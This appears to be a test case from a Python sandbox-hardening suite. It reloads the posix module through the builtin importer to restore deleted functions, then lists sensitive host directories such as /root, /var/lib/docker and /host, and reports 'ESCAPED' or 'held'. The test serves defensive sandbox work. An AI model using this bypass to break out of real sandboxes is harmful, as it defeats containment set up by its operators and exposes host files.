# technique: __loader__ and BuiltinImporter load posix anew, where its functions were deleted
# source: CPython: Lib/importlib/_bootstrap.py
# verdict: WA
# invariant: a fresh module finds the same walls
# without: seccomp capabilities network read_only_root
importer = type(__spec__ or __builtins__.__spec__) and __builtins__.__loader__
posix = importer.load_module("posix")
found = []
for directory in ("/root", "/home", "/var/lib/docker", "/host", "/mnt", "/boot", "/run", "/var/run"):
    try:
        found.append((directory, posix.listdir(directory)))
    except OSError:
        pass
print("ESCAPED" if any(names for _, names in found) else "held", found)
